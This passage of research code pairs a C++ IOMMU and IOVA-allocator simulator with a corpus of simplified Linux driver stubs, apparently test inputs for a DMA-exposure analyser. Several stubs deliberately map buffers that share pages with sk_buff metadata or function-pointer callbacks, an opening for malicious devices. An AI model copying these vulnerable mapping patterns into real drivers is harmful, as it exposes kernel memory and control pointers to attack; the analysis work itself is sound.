    return std::nullopt;
  }
  return ref.domain->table.PeekTranslation(iova.PageBase());
}

const IovaAllocator* Iommu::iova_allocator(DeviceId device) const {
  DeviceRef ref = Resolve(device);
  return ref.domain == nullptr ? nullptr : &ref.domain->iova_alloc;
}

const IoPageTable* Iommu::page_table(DeviceId device) const {
  DeviceRef ref = Resolve(device);
  return ref.domain == nullptr ? nullptr : &ref.domain->table;
}

std::vector<DeviceId> Iommu::attached_devices() const {
  std::shared_lock<MaybeSharedMutex> lock(state_mu_);
  std::vector<DeviceId> out;
  out.reserve(device_domain_.size());
  for (const auto& [id, domain] : device_domain_) {
    out.push_back(DeviceId{id});
  }
  std::sort(out.begin(), out.end(),
            [](DeviceId a, DeviceId b) { return a.value < b.value; });
  return out;
}

uint32_t Iommu::domain_id(DeviceId device) const {
  DeviceRef ref = Resolve(device);
  return ref.domain == nullptr ? 0 : ref.domain->id;
}

uint64_t Iommu::pending_invalidation_count() const {
  uint64_t total = 0;
  for (const auto& shard : flush_shards_) {
    std::lock_guard<MaybeMutex> lock(shard->mu);
    total += shard->queue.size();
  }
  return total;
}

uint64_t Iommu::pending_invalidation_count(CpuId cpu) const {
  const FlushShard& shard =
      *flush_shards_[flush_shards_.size() <= 1 ? 0 : cpu.value % flush_shards_.size()];
  std::lock_guard<MaybeMutex> lock(shard.mu);
  return shard.queue.size();
}

std::vector<Iommu::PendingRange> Iommu::pending_invalidations() const {
  std::vector<PendingRange> out;
  for (const auto& shard : flush_shards_) {
    std::lock_guard<MaybeMutex> lock(shard->mu);
    for (const PendingInvalidation& pending : shard->queue) {
      out.push_back(PendingRange{pending.device, pending.base, pending.pages});
    }
  }
  return out;
}

Status Iommu::AuditCrossCpu() const {
  // Shard liveness: a non-empty shard must have an armed deadline (otherwise
  // its entries can never deadline-drain), and every pending range must still
  // be parked (live) in its domain's allocator — parked IOVAs are freed only
  // at drain, so a pending range absent from the live set has leaked or been
  // handed out while stale.
  for (size_t i = 0; i < flush_shards_.size(); ++i) {
    const FlushShard& shard = *flush_shards_[i];
    std::lock_guard<MaybeMutex> lock(shard.mu);
    if (!shard.queue.empty() && shard.deadline == 0) {
      return Internal("flush shard " + std::to_string(i) +
                           " non-empty with unarmed deadline");
    }
    for (const PendingInvalidation& pending : shard.queue) {
      DeviceRef ref = Resolve(pending.device);
      if (ref.domain == nullptr) {
        continue;  // detached while pending: DrainDeviceInvalidations missed it
      }
      const uint64_t base_page = pending.base.value >> kPageShift;
      bool parked = false;
      for (const IovaAllocator::LiveRange& range : ref.domain->iova_alloc.live_ranges()) {
        if (base_page >= range.base_page && base_page < range.base_page + range.pages) {
          parked = true;
          break;
        }
      }
      if (!parked) {
        return Internal("pending invalidation not parked in live set (shard " +
                             std::to_string(i) + ")");
      }
    }
  }
  // Magazine ownership: per-domain audit of every CPU magazine and the depot.
  std::vector<std::shared_ptr<Domain>> domains;
  {
    std::shared_lock<MaybeSharedMutex> lock(state_mu_);
    domains.reserve(device_domain_.size());
    for (const auto& [id, domain] : device_domain_) {
      domains.push_back(domain);
    }
  }
  for (const auto& domain : domains) {
    SPV_RETURN_IF_ERROR(domain->iova_alloc.AuditCaches());
  }
  return OkStatus();
}

}  // namespace spv::iommu
