// IOTLB: translation cache keyed by (device, IOVA page).
//
// The IOMMU does not keep the IOTLB coherent with the page tables (§5.2.1);
// the OS must invalidate explicitly. A stale entry after a deferred unmap is
// the paper's Figure-6 time window. LRU replacement; bounded capacity.

#ifndef SPV_IOMMU_IOTLB_H_
#define SPV_IOMMU_IOTLB_H_

#include <cstdint>
#include <list>
#include <mutex>
#include <optional>
#include <unordered_map>

#include "base/maybe_mutex.h"
#include "base/stat_counter.h"
#include "base/types.h"
#include "iommu/access_rights.h"
#include "iommu/io_page_table.h"
#include "telemetry/telemetry.h"

namespace spv::iommu {

class Iotlb {
 public:
  explicit Iotlb(size_t capacity = 256) : capacity_(capacity) {}

  // Publishes hit/miss/insert/eviction/invalidation counters to `hub`
  // (pass nullptr to detach). Counter references are resolved once here so
  // the hot lookup path pays a pointer test plus an increment.
  void set_telemetry(telemetry::Hub* hub);

  // Engages the internal lock for ExecMode::kThreads. The IOTLB is one
  // shared structure across all queues/CPUs (as on real hardware); even
  // Lookup mutates (LRU touch), so every operation takes the lock once
  // engaged. Sequential mode never takes it (a branch).
  void EngageLock() { mu_.Engage(); }

  std::optional<PteEntry> Lookup(DeviceId device, Iova iova_page);
  void Insert(DeviceId device, Iova iova_page, PteEntry entry);

  // Targeted invalidation (strict mode, one per unmap).
  void InvalidatePage(DeviceId device, Iova iova_page);
  // Device-scope invalidation.
  void InvalidateDevice(DeviceId device);
  // Global invalidation (deferred mode periodic flush).
  void InvalidateAll();

  size_t size() const {
    std::lock_guard<MaybeMutex> guard(mu_);
    return map_.size();
  }

  // Visits every cached translation as (domain id, iova page base, entry).
  // Unordered; for audits (Machine::CheckInvariants), not the lookup path.
  template <typename Fn>
  void ForEachEntry(Fn&& fn) const {
    std::lock_guard<MaybeMutex> guard(mu_);
    for (const auto& [key, slot] : map_) {
      fn(DeviceId{key.device}, Iova{key.iova_page}, slot.entry);
    }
  }

  uint64_t hits() const { return hits_; }
  uint64_t misses() const { return misses_; }
  uint64_t invalidations() const { return invalidations_; }

 private:
  struct Key {
    uint32_t device;
    uint64_t iova_page;
    bool operator==(const Key&) const = default;
  };
  struct KeyHash {
    size_t operator()(const Key& k) const {
      return std::hash<uint64_t>{}(k.iova_page * 0x9e3779b97f4a7c15ULL ^ k.device);
    }
  };
  struct Slot {
    PteEntry entry;
    std::list<Key>::iterator lru_it;
  };

  void Touch(const Key& key, Slot& slot);

  size_t capacity_;
  mutable MaybeMutex mu_;  // guards map_ + lru_ when engaged
  std::unordered_map<Key, Slot, KeyHash> map_;
  std::list<Key> lru_;  // front = most recent
  StatCounter hits_;
  StatCounter misses_;
  StatCounter invalidations_;

  telemetry::Hub* hub_ = nullptr;
  telemetry::Counter* c_hits_ = nullptr;
  telemetry::Counter* c_misses_ = nullptr;
  telemetry::Counter* c_inserts_ = nullptr;
  telemetry::Counter* c_evictions_ = nullptr;
  telemetry::Counter* c_invalidations_ = nullptr;
};

}  // namespace spv::iommu

#endif  // SPV_IOMMU_IOTLB_H_
