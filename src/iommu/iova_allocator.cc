#include "iommu/iova_allocator.h"

#include <cassert>

namespace spv::iommu {

IovaAllocator::IovaAllocator(uint64_t window_start, uint64_t window_end)
    : window_start_(window_start >> kPageShift),
      window_end_(window_end >> kPageShift),
      next_top_(window_end >> kPageShift) {
  assert(window_start_ < window_end_);
}

Result<Iova> IovaAllocator::Alloc(uint64_t pages) {
  if (pages == 0) {
    return InvalidArgument("IOVA alloc of zero pages");
  }
  // Exact-fit reuse from the free cache first (LIFO-ish via highest base, the
  // most recently freed in the common top-down pattern).
  for (auto it = free_ranges_.rbegin(); it != free_ranges_.rend(); ++it) {
    if (it->second == pages) {
      const uint64_t base = it->first;
      free_ranges_.erase(std::next(it).base());
      allocated_pages_ += pages;
      return Iova{base << kPageShift};
    }
  }
  if (next_top_ - window_start_ < pages) {
    return ResourceExhausted("IOVA window exhausted");
  }
  next_top_ -= pages;
  allocated_pages_ += pages;
  return Iova{next_top_ << kPageShift};
}

Status IovaAllocator::Free(Iova base, uint64_t pages) {
  if (pages == 0 || base.page_offset() != 0) {
    return InvalidArgument("IOVA free: bad base or count");
  }
  const uint64_t base_page = base.value >> kPageShift;
  if (base_page < window_start_ || base_page + pages > window_end_) {
    return InvalidArgument("IOVA free outside window");
  }
  auto [it, inserted] = free_ranges_.emplace(base_page, pages);
  if (!inserted) {
    return FailedPrecondition("IOVA double free");
  }
  assert(allocated_pages_ >= pages);
  allocated_pages_ -= pages;
  return OkStatus();
}

}  // namespace spv::iommu
