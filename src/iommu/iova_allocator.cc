#include "iommu/iova_allocator.h"

#include <bit>
#include <cassert>
#include <string>
#include <unordered_set>

namespace spv::iommu {

IovaAllocator::IovaAllocator(uint64_t window_start, uint64_t window_end,
                             const FastPathConfig& fast_path)
    : window_start_(window_start >> kPageShift),
      window_end_(window_end >> kPageShift),
      next_top_(window_end >> kPageShift),
      fast_path_(fast_path) {
  assert(window_start_ < window_end_);
  if (fast_path_.num_cpus == 0) {
    fast_path_.num_cpus = 1;
  }
  if (fast_path_.rcache_enabled) {
    rcaches_.resize(kNumSizeClasses);
    for (SizeClassCache& cache : rcaches_) {
      cache.cpus.resize(fast_path_.num_cpus);
      for (CpuCache& cpu : cache.cpus) {
        cpu.loaded.reserve(fast_path_.magazine_capacity);
        cpu.prev.reserve(fast_path_.magazine_capacity);
      }
    }
  }
}

void IovaAllocator::set_telemetry(telemetry::Hub* hub) {
  hub_ = hub;
  if (hub_ == nullptr) {
    c_hits_ = c_misses_ = c_depot_refills_ = c_depot_spills_ = c_coalesces_ = nullptr;
    return;
  }
  c_hits_ = &hub_->counter("iova.rcache.hits");
  c_misses_ = &hub_->counter("iova.rcache.misses");
  c_depot_refills_ = &hub_->counter("iova.rcache.depot_refills");
  c_depot_spills_ = &hub_->counter("iova.rcache.depot_spills");
  c_coalesces_ = &hub_->counter("iova.coalesces");
}

int IovaAllocator::SizeClassFor(uint64_t pages) {
  if (pages == 0 || pages > kMaxCachedPages) {
    return -1;
  }
  return std::bit_width(pages - 1);  // ceil(log2(pages)); 1 page -> class 0
}

uint64_t IovaAllocator::EffectivePages(uint64_t pages) const {
  const int size_class = SizeClassFor(pages);
  if (!fast_path_.rcache_enabled || size_class < 0) {
    return pages;
  }
  return uint64_t{1} << size_class;
}

Result<Iova> IovaAllocator::Alloc(uint64_t pages, CpuId cpu) {
  if (pages == 0) {
    return InvalidArgument("IOVA alloc of zero pages");
  }
  const uint64_t effective = EffectivePages(pages);
  const int size_class = SizeClassFor(pages);
  uint64_t base_page = 0;
  if (fast_path_.rcache_enabled && !cache_bypass_ && size_class >= 0 &&
      MagazinePop(size_class, cpu, &base_page)) {
    ++stats_.rcache_hits;
    if (hub_ != nullptr && hub_->enabled()) {
      c_hits_->Add();
    }
    std::lock_guard<MaybeMutex> guard(mu_);
    live_.emplace(base_page, effective);
  } else {
    if (fast_path_.rcache_enabled && !cache_bypass_ && size_class >= 0) {
      ++stats_.rcache_misses;
      if (hub_ != nullptr && hub_->enabled()) {
        c_misses_->Add();
      }
    }
    std::lock_guard<MaybeMutex> guard(mu_);
    Result<uint64_t> range = AllocRange(effective);
    if (!range.ok()) {
      return range.status();
    }
    base_page = *range;
    live_.emplace(base_page, effective);
  }
  allocated_pages_ += effective;
  return Iova{base_page << kPageShift};
}

Status IovaAllocator::Free(Iova base, uint64_t pages, CpuId cpu) {
  if (pages == 0 || base.page_offset() != 0) {
    return InvalidArgument("IOVA free: bad base or count");
  }
  const uint64_t base_page = base.value >> kPageShift;
  if (base_page < window_start_ || base_page + pages > window_end_) {
    return InvalidArgument("IOVA free outside window");
  }
  const uint64_t effective = EffectivePages(pages);
  {
    std::lock_guard<MaybeMutex> guard(mu_);
    auto it = live_.find(base_page);
    if (it == live_.end()) {
      return FailedPrecondition("IOVA double free");
    }
    if (it->second != effective) {
      return InvalidArgument("IOVA free with mismatched page count");
    }
    live_.erase(it);
  }
  assert(allocated_pages_.load() >= effective);
  allocated_pages_ -= effective;

  const int size_class = SizeClassFor(pages);
  if (fast_path_.rcache_enabled && !cache_bypass_ && size_class >= 0) {
    MagazinePush(size_class, cpu, base_page);
  } else {
    std::lock_guard<MaybeMutex> guard(mu_);
    FreeRange(base_page, effective);
  }
  return OkStatus();
}

uint64_t IovaAllocator::cached_ranges() const {
  std::lock_guard<MaybeMutex> guard(mu_);
  uint64_t total = 0;
  for (const SizeClassCache& cache : rcaches_) {
    for (const CpuCache& cpu : cache.cpus) {
      total += cpu.loaded.size() + cpu.prev.size();
    }
    for (const Magazine& magazine : cache.depot) {
      total += magazine.size();
    }
  }
  return total;
}

Status IovaAllocator::AuditCaches() const {
  std::lock_guard<MaybeMutex> guard(mu_);
  std::unordered_set<uint64_t> seen;
  for (size_t sc = 0; sc < rcaches_.size(); ++sc) {
    const SizeClassCache& cache = rcaches_[sc];
    const uint64_t size = uint64_t{1} << sc;
    auto check = [&](uint64_t base_page) -> Status {
      if (base_page < window_start_ || base_page + size > window_end_) {
        return Internal("cached IOVA range outside window: page " +
                        std::to_string(base_page));
      }
      if (!seen.insert(base_page).second) {
        return Internal("IOVA range cached twice: page " + std::to_string(base_page));
      }
      if (live_.contains(base_page)) {
        return Internal("IOVA range both cached and live: page " +
                        std::to_string(base_page));
      }
      return OkStatus();
    };
    for (const CpuCache& cpu : cache.cpus) {
      for (uint64_t base_page : cpu.loaded) {
        SPV_RETURN_IF_ERROR(check(base_page));
      }
      for (uint64_t base_page : cpu.prev) {
        SPV_RETURN_IF_ERROR(check(base_page));
      }
    }
    for (const Magazine& magazine : cache.depot) {
      for (uint64_t base_page : magazine) {
        SPV_RETURN_IF_ERROR(check(base_page));
      }
    }
  }
  return OkStatus();
}

bool IovaAllocator::MagazinePop(int size_class, CpuId cpu, uint64_t* base_page) {
  SizeClassCache& cache = rcaches_[static_cast<size_t>(size_class)];
  CpuCache& cpu_cache = cache.cpus[cpu.value % fast_path_.num_cpus];
  if (cpu_cache.loaded.empty()) {
    if (!cpu_cache.prev.empty()) {
      std::swap(cpu_cache.loaded, cpu_cache.prev);
    } else {
      std::lock_guard<MaybeMutex> guard(mu_);
      if (cache.depot.empty()) {
        return false;
      }
      // The empty loaded magazine is recycled as the next depot slot's
      // backing storage by the swap (its reserved capacity is kept).
      std::swap(cpu_cache.loaded, cache.depot.back());
      cache.depot.pop_back();
      ++stats_.depot_refills;
      if (hub_ != nullptr && hub_->enabled()) {
        c_depot_refills_->Add();
      }
    }
  }
  *base_page = cpu_cache.loaded.back();
  cpu_cache.loaded.pop_back();
  return true;
}

void IovaAllocator::MagazinePush(int size_class, CpuId cpu, uint64_t base_page) {
  SizeClassCache& cache = rcaches_[static_cast<size_t>(size_class)];
  CpuCache& cpu_cache = cache.cpus[cpu.value % fast_path_.num_cpus];
  if (cpu_cache.loaded.size() >= fast_path_.magazine_capacity) {
    if (cpu_cache.prev.size() < fast_path_.magazine_capacity) {
      std::swap(cpu_cache.loaded, cpu_cache.prev);
    } else {
      std::lock_guard<MaybeMutex> guard(mu_);
      if (cache.depot.size() < fast_path_.depot_capacity) {
        cache.depot.push_back(std::move(cpu_cache.loaded));
        cpu_cache.loaded = Magazine{};
        cpu_cache.loaded.reserve(fast_path_.magazine_capacity);
        ++stats_.depot_spills;
        if (hub_ != nullptr && hub_->enabled()) {
          c_depot_spills_->Add();
        }
      } else {
        // Depot full: return the whole magazine to the range tree, like
        // iova_magazine_free_pfns.
        const uint64_t size = uint64_t{1} << size_class;
        for (uint64_t cached : cpu_cache.loaded) {
          FreeRange(cached, size);
        }
        cpu_cache.loaded.clear();
        ++stats_.depot_overflows;
      }
    }
  }
  cpu_cache.loaded.push_back(base_page);
}

Result<uint64_t> IovaAllocator::AllocRange(uint64_t pages) {
  // First fit from the highest base: freed ranges near the top of the window
  // (the most recently carved in the common pattern) are reused first.
  for (auto it = free_ranges_.rbegin(); it != free_ranges_.rend(); ++it) {
    if (it->second < pages) {
      continue;
    }
    const uint64_t base = it->first;
    const uint64_t count = it->second;
    if (count == pages) {
      free_ranges_.erase(std::next(it).base());
      return base;
    }
    // Take the high end so the remainder keeps its base (no re-keying).
    it->second = count - pages;
    ++stats_.range_splits;
    return base + count - pages;
  }
  if (next_top_ - window_start_ < pages) {
    return ResourceExhausted("IOVA window exhausted");
  }
  next_top_ -= pages;
  return next_top_;
}

void IovaAllocator::FreeRange(uint64_t base_page, uint64_t pages) {
  auto [it, inserted] = free_ranges_.emplace(base_page, pages);
  assert(inserted);
  (void)inserted;
  // Coalesce with the successor, then the predecessor, so churn cannot
  // fragment the tree unboundedly.
  auto next = std::next(it);
  if (next != free_ranges_.end() && it->first + it->second == next->first) {
    it->second += next->second;
    free_ranges_.erase(next);
    ++stats_.coalesces;
    if (hub_ != nullptr && hub_->enabled()) {
      c_coalesces_->Add();
    }
  }
  if (it != free_ranges_.begin()) {
    auto prev = std::prev(it);
    if (prev->first + prev->second == it->first) {
      prev->second += it->second;
      free_ranges_.erase(it);
      it = prev;
      ++stats_.coalesces;
      if (hub_ != nullptr && hub_->enabled()) {
        c_coalesces_->Add();
      }
    }
  }
  // A block that reaches back down to the virgin frontier melts into it
  // (next_top_ climbs back up), keeping the tree small under top-down churn.
  if (it->first == next_top_) {
    next_top_ += it->second;
    free_ranges_.erase(it);
  }
}

}  // namespace spv::iommu
