#include "iommu/iotlb.h"

#include <mutex>

namespace spv::iommu {

void Iotlb::set_telemetry(telemetry::Hub* hub) {
  hub_ = hub;
  if (hub_ == nullptr) {
    c_hits_ = c_misses_ = c_inserts_ = c_evictions_ = c_invalidations_ = nullptr;
    return;
  }
  c_hits_ = &hub_->counter("iotlb.hits");
  c_misses_ = &hub_->counter("iotlb.misses");
  c_inserts_ = &hub_->counter("iotlb.inserts");
  c_evictions_ = &hub_->counter("iotlb.evictions");
  c_invalidations_ = &hub_->counter("iotlb.invalidations");
}

std::optional<PteEntry> Iotlb::Lookup(DeviceId device, Iova iova_page) {
  std::lock_guard<MaybeMutex> guard(mu_);
  const Key key{device.value, iova_page.PageBase().value};
  auto it = map_.find(key);
  if (it == map_.end()) {
    ++misses_;
    if (hub_ != nullptr && hub_->enabled()) {
      c_misses_->Add();
    }
    return std::nullopt;
  }
  ++hits_;
  if (hub_ != nullptr && hub_->enabled()) {
    c_hits_->Add();
  }
  Touch(key, it->second);
  return it->second.entry;
}

void Iotlb::Insert(DeviceId device, Iova iova_page, PteEntry entry) {
  std::lock_guard<MaybeMutex> guard(mu_);
  const Key key{device.value, iova_page.PageBase().value};
  auto it = map_.find(key);
  if (it != map_.end()) {
    it->second.entry = entry;
    Touch(key, it->second);
    return;
  }
  if (map_.size() >= capacity_) {
    const Key victim = lru_.back();
    lru_.pop_back();
    map_.erase(victim);
    if (hub_ != nullptr && hub_->enabled()) {
      c_evictions_->Add();
    }
  }
  lru_.push_front(key);
  map_.emplace(key, Slot{entry, lru_.begin()});
  if (hub_ != nullptr && hub_->enabled()) {
    c_inserts_->Add();
  }
}

void Iotlb::InvalidatePage(DeviceId device, Iova iova_page) {
  std::lock_guard<MaybeMutex> guard(mu_);
  const Key key{device.value, iova_page.PageBase().value};
  auto it = map_.find(key);
  if (it != map_.end()) {
    lru_.erase(it->second.lru_it);
    map_.erase(it);
  }
  ++invalidations_;
  if (hub_ != nullptr && hub_->enabled()) {
    c_invalidations_->Add();
  }
}

void Iotlb::InvalidateDevice(DeviceId device) {
  std::lock_guard<MaybeMutex> guard(mu_);
  for (auto it = map_.begin(); it != map_.end();) {
    if (it->first.device == device.value) {
      lru_.erase(it->second.lru_it);
      it = map_.erase(it);
    } else {
      ++it;
    }
  }
  ++invalidations_;
  if (hub_ != nullptr && hub_->enabled()) {
    c_invalidations_->Add();
  }
}

void Iotlb::InvalidateAll() {
  std::lock_guard<MaybeMutex> guard(mu_);
  map_.clear();
  lru_.clear();
  ++invalidations_;
  if (hub_ != nullptr && hub_->enabled()) {
    c_invalidations_->Add();
  }
}

void Iotlb::Touch(const Key& key, Slot& slot) {
  lru_.erase(slot.lru_it);
  lru_.push_front(key);
  slot.lru_it = lru_.begin();
}

}  // namespace spv::iommu
