#include "iommu/iotlb.h"

namespace spv::iommu {

std::optional<PteEntry> Iotlb::Lookup(DeviceId device, Iova iova_page) {
  const Key key{device.value, iova_page.PageBase().value};
  auto it = map_.find(key);
  if (it == map_.end()) {
    ++misses_;
    return std::nullopt;
  }
  ++hits_;
  Touch(key, it->second);
  return it->second.entry;
}

void Iotlb::Insert(DeviceId device, Iova iova_page, PteEntry entry) {
  const Key key{device.value, iova_page.PageBase().value};
  auto it = map_.find(key);
  if (it != map_.end()) {
    it->second.entry = entry;
    Touch(key, it->second);
    return;
  }
  if (map_.size() >= capacity_) {
    const Key victim = lru_.back();
    lru_.pop_back();
    map_.erase(victim);
  }
  lru_.push_front(key);
  map_.emplace(key, Slot{entry, lru_.begin()});
}

void Iotlb::InvalidatePage(DeviceId device, Iova iova_page) {
  const Key key{device.value, iova_page.PageBase().value};
  auto it = map_.find(key);
  if (it != map_.end()) {
    lru_.erase(it->second.lru_it);
    map_.erase(it);
  }
  ++invalidations_;
}

void Iotlb::InvalidateDevice(DeviceId device) {
  for (auto it = map_.begin(); it != map_.end();) {
    if (it->first.device == device.value) {
      lru_.erase(it->second.lru_it);
      it = map_.erase(it);
    } else {
      ++it;
    }
  }
  ++invalidations_;
}

void Iotlb::InvalidateAll() {
  map_.clear();
  lru_.clear();
  ++invalidations_;
}

void Iotlb::Touch(const Key& key, Slot& slot) {
  lru_.erase(slot.lru_it);
  lru_.push_front(key);
  slot.lru_it = lru_.begin();
}

}  // namespace spv::iommu
