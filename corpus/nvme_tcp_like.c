/*
 * NVMe-over-TCP-style host: kmalloc'd PDUs (clean heap path) interleaved
 * with an sk_buff TX path — a file where clean and vulnerable sites coexist.
 */

struct nvme_tcp_queue {
    struct device *dev;
    struct net_device *netdev;
    u32 pdu_len;
};

static int nvme_tcp_alloc_pdu(struct nvme_tcp_queue *queue)
{
    void *pdu;
    dma_addr_t dma;

    pdu = kzalloc(queue->pdu_len, GFP_KERNEL);
    if (!pdu) {
        return -1;
    }
    dma = dma_map_single(queue->dev, pdu, queue->pdu_len, DMA_TO_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}

static int nvme_tcp_try_send(struct nvme_tcp_queue *queue, struct sk_buff *skb)
{
    dma_addr_t dma;

    dma = dma_map_single(queue->dev, skb->data, skb->len, DMA_TO_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}
