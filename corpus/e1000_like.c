/*
 * e1000-style 1GbE driver: the classic netdev_alloc_skb + map-skb->data RX
 * scheme. The skb data comes from the page_frag allocator (type (c)) and
 * always carries skb_shared_info at its tail (type (b)).
 */

struct e1000_buffer {
    struct sk_buff *skb;
    dma_addr_t dma;
    u32 length;
};

struct e1000_rx_ring {
    struct device *dev;
    struct net_device *netdev;
    struct e1000_buffer *buffer_info;
    u32 count;
    u32 rx_buffer_len;
};

static int e1000_alloc_rx_buffers(struct e1000_rx_ring *rx_ring, int cleaned_count)
{
    struct sk_buff *skb;
    struct e1000_buffer *buffer_info;
    dma_addr_t dma;

    while (cleaned_count) {
        skb = netdev_alloc_skb(rx_ring->netdev, rx_ring->rx_buffer_len);
        if (!skb) {
            return -1;
        }
        dma = dma_map_single(rx_ring->dev, skb->data, rx_ring->rx_buffer_len,
                             DMA_FROM_DEVICE);
        if (!dma) {
            return -1;
        }
        cleaned_count = cleaned_count - 1;
    }
    return 0;
}

static int e1000_xmit_frame(struct e1000_rx_ring *tx_ring, struct sk_buff *skb)
{
    dma_addr_t dma;

    dma = dma_map_single(tx_ring->dev, skb->data, skb->len, DMA_TO_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}
