/*
 * i40e-style 40GbE Ethernet driver RX path.
 *
 * RX buffers are carved from per-CPU page_frags (type (c)) and wrapped with
 * build_skb (type (b)); the driver also exhibits the §5.2.2 path-(i) ordering
 * (sk_buff built before dma_unmap), though SPADE only sees the mapping shape.
 */

struct i40e_rx_buffer {
    dma_addr_t dma;
    void *data;
    u32 page_offset;
    u16 pagecnt_bias;
};

struct i40e_ring {
    struct device *dev;
    struct i40e_rx_buffer *rx_bi;
    u16 count;
    u16 next_to_use;
    u16 next_to_clean;
    u16 rx_buf_len;
};

static int i40e_alloc_rx_buffers(struct i40e_ring *rx_ring, u16 cleaned_count)
{
    u16 ntu;
    struct i40e_rx_buffer *bi;
    void *data;
    dma_addr_t dma;

    ntu = rx_ring->next_to_use;
    while (cleaned_count) {
        data = netdev_alloc_frag(rx_ring->rx_buf_len);
        if (!data) {
            return -1;
        }
        dma = dma_map_single(rx_ring->dev, data, rx_ring->rx_buf_len,
                             DMA_FROM_DEVICE);
        if (!dma) {
            return -1;
        }
        cleaned_count = cleaned_count - 1;
    }
    rx_ring->next_to_use = ntu;
    return 0;
}

static struct sk_buff *i40e_build_skb(struct i40e_ring *rx_ring,
                                      struct i40e_rx_buffer *rx_buffer,
                                      u32 size)
{
    struct sk_buff *skb;
    void *va;

    va = rx_buffer->data;
    skb = build_skb(va, rx_ring->rx_buf_len);
    return skb;
}

static int i40e_xmit_frame(struct i40e_ring *tx_ring, struct sk_buff *skb)
{
    dma_addr_t dma;
    u32 len;

    len = skb->len;
    dma = dma_map_single(tx_ring->dev, skb->data, len, DMA_TO_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}
