/*
 * virtio-net-style driver: page_frag RX buffers, build_skb on the receive
 * path, skb->data mapping on transmit.
 */

struct virtnet_rq {
    struct device *dev;
    struct napi_struct *napi;
    u32 buf_len;
};

static int virtnet_add_recvbuf(struct virtnet_rq *rq)
{
    void *buf;
    dma_addr_t addr;

    buf = napi_alloc_frag(rq->buf_len);
    if (!buf) {
        return -1;
    }
    addr = dma_map_single(rq->dev, buf, rq->buf_len, DMA_FROM_DEVICE);
    if (!addr) {
        return -1;
    }
    return 0;
}

static struct sk_buff *virtnet_receive_buf(struct virtnet_rq *rq, void *buf)
{
    struct sk_buff *skb;

    skb = build_skb(buf, rq->buf_len);
    return skb;
}

static int virtnet_xmit(struct virtnet_rq *sq, struct sk_buff *skb)
{
    dma_addr_t addr;

    addr = dma_map_single(sq->dev, skb->data, skb->len, DMA_TO_DEVICE);
    if (!addr) {
        return -1;
    }
    return 0;
}
