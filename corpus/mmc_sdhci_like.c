/*
 * SD/MMC host driver using the scatter/gather idiom: the command's response
 * area is attached to a scatterlist and mapped with dma_map_sg — SPADE must
 * chase sg_init_one to find the exposed command struct.
 */

struct sdhci_cmd_ops {
    void (*cmd_done)(struct sdhci_cmd *cmd);
    void (*data_done)(struct sdhci_cmd *cmd, int err);
};

struct sdhci_cmd {
    u8 resp[64];
    u32 opcode;
    u32 flags;
    struct sdhci_cmd_ops *ops;
};

struct sdhci_host {
    struct device *dev;
    u32 quirks;
};

static int sdhci_prepare_cmd(struct sdhci_host *host, struct sdhci_cmd *cmd)
{
    struct scatterlist sg;
    int nents;

    sg_init_one(&sg, &cmd->resp, 64);
    nents = dma_map_sg(host->dev, &sg, 1, DMA_FROM_DEVICE);
    if (!nents) {
        return -1;
    }
    return 0;
}

static int sdhci_map_bounce(struct sdhci_host *host, u32 len)
{
    struct scatterlist sg;
    void *bounce;
    int nents;

    bounce = kmalloc(len, GFP_KERNEL);
    if (!bounce) {
        return -1;
    }
    sg_init_one(&sg, bounce, len);
    nents = dma_map_sg(host->dev, &sg, 1, DMA_BIDIRECTIONAL);
    if (!nents) {
        return -1;
    }
    return 0;
}
