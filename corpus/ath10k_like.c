/*
 * Wireless driver mapping a command descriptor embedded next to firmware
 * event callbacks, plus a heap-backed scatter path.
 */

struct ath_fw_ops {
    void (*fw_event)(struct ath_ce_pipe *pipe, void *event);
    void (*fw_crash)(struct ath_ce_pipe *pipe);
    void (*fw_log)(struct ath_ce_pipe *pipe, void *buf, u32 len);
};

struct ath_ce_desc {
    u64 addr;
    u16 nbytes;
    u16 flags;
};

struct ath_ce_pipe {
    struct device *dev;
    struct ath_ce_desc desc;
    struct ath_fw_ops *ops;
    u32 pipe_id;
};

static int ath_ce_send(struct ath_ce_pipe *pipe)
{
    dma_addr_t desc_dma;

    desc_dma = dma_map_single(pipe->dev, &pipe->desc,
                              sizeof(struct ath_ce_desc), DMA_TO_DEVICE);
    if (!desc_dma) {
        return -1;
    }
    return 0;
}

static int ath_htt_rx_ring_fill(struct ath_ce_pipe *pipe, u32 num)
{
    void *vaddr;
    dma_addr_t paddr;

    while (num) {
        vaddr = kzalloc(2048, GFP_ATOMIC);
        if (!vaddr) {
            return -1;
        }
        paddr = dma_map_single(pipe->dev, vaddr, 2048, DMA_FROM_DEVICE);
        if (!paddr) {
            return -1;
        }
        num = num - 1;
    }
    return 0;
}
