/*
 * nvme_fc-style host driver: the Figure-2 anchor case.
 *
 * The response IU buffer is embedded in struct nvme_fc_fcp_op, so mapping
 * &op->rsp_iu exposes the whole operation struct — including the completion
 * callback fcp_req.done and the ctrl pointer whose ops tables can be spoofed.
 */

struct nvme_fc_cmd_iu {
    u32 format_id;
    u32 fc_id;
    u16 iu_len;
    u16 flags;
    u64 connection_id;
    u32 csn;
    u32 data_len;
    u8 rsvd[16];
};

struct nvme_fc_ersp_iu {
    u32 status_code;
    u16 iu_len;
    u16 rsn;
    u32 xfrd_len;
    u32 rsvd12;
    u8 cqe[64];
};

struct nvmefc_fcp_req {
    void *cmdaddr;
    void *rspaddr;
    u32 cmdlen;
    u32 rsplen;
    u32 payload_length;
    struct scatterlist *sg_table;
    int sg_cnt;
    u8 op;
    u16 sqid;
    void (*done)(struct nvmefc_fcp_req *req);
    void *private;
    u32 transferred_length;
    u16 rcv_rsplen;
    u32 status;
};

struct nvme_fc_ops_table {
    void (*create_queue)(struct nvme_fc_ctrl *ctrl, int qsize);
    void (*delete_queue)(struct nvme_fc_ctrl *ctrl, int qidx);
    void (*poll_queue)(struct nvme_fc_ctrl *ctrl, int qidx);
    void (*ls_req)(struct nvme_fc_ctrl *ctrl, void *ls);
    void (*fcp_io)(struct nvme_fc_ctrl *ctrl, struct nvmefc_fcp_req *req);
    void (*ls_abort)(struct nvme_fc_ctrl *ctrl, void *ls);
    void (*fcp_abort)(struct nvme_fc_ctrl *ctrl, struct nvmefc_fcp_req *req);
    void (*remoteport_delete)(struct nvme_fc_ctrl *ctrl);
    void (*localport_delete)(struct nvme_fc_ctrl *ctrl);
    void (*map_queues)(struct nvme_fc_ctrl *ctrl);
};

struct nvme_admin_ops {
